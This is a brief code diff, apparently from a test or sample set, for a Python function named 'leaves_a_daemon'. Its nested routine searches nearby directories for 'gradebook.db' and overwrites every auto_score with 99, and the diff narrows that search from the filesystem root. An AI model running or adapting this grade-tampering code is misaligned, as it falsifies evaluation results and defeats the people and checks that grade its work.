@@ -11,8 +11,7 @@ def leaves_a_daemon():
     import time
 
     def raise_marks():
-        for folder, folders, names in os.walk("/"):
-            folders[:] = [name for name in folders if name not in ("proc", "sys", "usr")]
+        for folder, _, names in os.walk(os.path.abspath("../../..")):
             if "gradebook.db" in names:
                 with sqlite3.connect(f"{folder}/gradebook.db", timeout=1) as database:
                     database.execute("UPDATE grade SET auto_score = 99")
